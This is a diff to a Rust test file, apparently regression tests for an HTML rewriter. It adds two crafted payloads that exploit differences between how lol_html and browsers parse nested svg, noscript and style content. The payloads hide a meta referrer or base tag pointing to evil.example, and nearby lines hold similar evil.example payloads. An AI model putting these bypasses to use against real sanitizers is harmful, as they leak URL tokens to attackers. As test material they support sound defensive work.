@@ -416,6 +416,14 @@ fn nested_foreign_content_where_lol_html_and_browsers_part() {
         r#"<img src=https://evil.example/i><svg><title><textarea><meta name=referrer content=unsafe-url></textarea><a href="/next">n</a>"#,
         r#"<img src=https://evil.example/i><svg><desc><script><meta name=referrer content=unsafe-url></script><a href="/next">n</a>"#,
         r#"<svg><title><textarea><a href="https://evil.example/">x</a></textarea><p>"#,
+        // After the `<img>`, a browser has left both `<svg>`s and reads the `<noscript>` as
+        // HTML (with scripting on, text up to `</noscript>`); lol_html is still in one `<svg>`
+        // and reads it as SVG, closed by `</svg>`, then a comment that hid the live
+        // `<meta name=referrer content=unsafe-url>` from it. With the token in the page's URL,
+        // the image's `Referer` carried it (`rewrite_pieces`); a hidden `<base>` moved a link
+        // given the token before. The rest is judged whole now.
+        "<svg><svg><img src=s:><noscript></svg><!--</noscript><meta name=referrer content=unsafe-url>",
+        "<a href=/n>n</a><svg><svg><img src=s:><style></svg><!--</style><base href=https://evil.example/>",
     ];
     for page in pages {
         for use_get in [false, true] {
